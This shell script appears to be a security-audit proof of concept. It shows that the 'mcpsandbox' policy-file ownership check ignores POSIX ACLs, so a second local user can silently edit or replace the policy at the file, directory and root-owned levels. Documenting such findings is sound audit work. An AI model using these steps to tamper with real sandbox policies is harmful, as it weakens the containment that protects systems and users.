#!/bin/sh
# atk35 F2: a POSIX ACL naming another user shows only as the group write bit, which the ownership
# rule forgives for the owner's private group (and for gid 0). Run as root; users atkann (1002) and atkeve (1003).
B=/tmp/atk35/mcpsandbox-pub; S=/work/notes/atk35/setacl.py
H=/home/atkann; rm -rf $H/cfg; mkdir -p $H/cfg/ws; chmod 755 $H
cp /work/main/docs/findings/atk34b/f1_policy.toml $H/cfg/policy.toml
chown -R atkann:atkann $H/cfg; chmod 755 $H/cfg; chmod 644 $H/cfg/policy.toml
echo "== control: the file 0644, no ACL"; runuser -u atkann -- $B serve --policy $H/cfg/policy.toml --check 2>&1 | grep -E 'refusing|^policy' | head -2; echo "rc=$?"
runuser -u atkeve -- sh -c 'echo "# atkeve" >> /home/atkann/cfg/policy.toml' 2>&1
echo "== (a) setfacl -m u:atkeve:rw policy.toml"
python3 $S $H/cfg/policy.toml 1003 6
runuser -u atkann -- $B serve --policy $H/cfg/policy.toml --check >/tmp/atk35/f2a.out 2>&1; echo "serve --check rc=$?"; grep -E 'refusing' /tmp/atk35/f2a.out
runuser -u atkeve -- sh -c 'id -un; echo "# written by atkeve through the ACL" >> /home/atkann/cfg/policy.toml' && tail -1 $H/cfg/policy.toml
echo "== (b) the directory: setfacl -m u:atkeve:rwx cfg (file without ACL)"
cp /work/main/docs/findings/atk34b/f1_policy.toml $H/cfg/p2.toml; chown atkann:atkann $H/cfg/p2.toml; chmod 644 $H/cfg/p2.toml
python3 $S $H/cfg 1003 7
runuser -u atkann -- $B serve --policy $H/cfg/p2.toml --check >/tmp/atk35/f2b.out 2>&1; echo "serve --check rc=$?"; grep -E 'refusing' /tmp/atk35/f2b.out
runuser -u atkeve -- sh -c 'cp /home/atkann/cfg/p2.toml /home/atkann/cfg/.x && echo "# replaced by atkeve" >> /home/atkann/cfg/.x && mv -f /home/atkann/cfg/.x /home/atkann/cfg/p2.toml' && tail -1 $H/cfg/p2.toml; ls -l $H/cfg/p2.toml
echo "== (c) a root-owned policy root:root 0644 + ACL u:atkeve:rw, served by atkann"
mkdir -p /srv/atk35; chmod 755 /srv/atk35; cp /work/main/docs/findings/atk34b/f1_policy.toml /srv/atk35/policy.toml; chmod 644 /srv/atk35/policy.toml
python3 $S /srv/atk35/policy.toml 1003 6
runuser -u atkann -- $B serve --policy /srv/atk35/policy.toml --check >/tmp/atk35/f2c.out 2>&1; echo "serve --check rc=$?"; grep -E 'refusing' /tmp/atk35/f2c.out
runuser -u atkeve -- sh -c 'echo "# written by atkeve" >> /srv/atk35/policy.toml' && tail -1 /srv/atk35/policy.toml
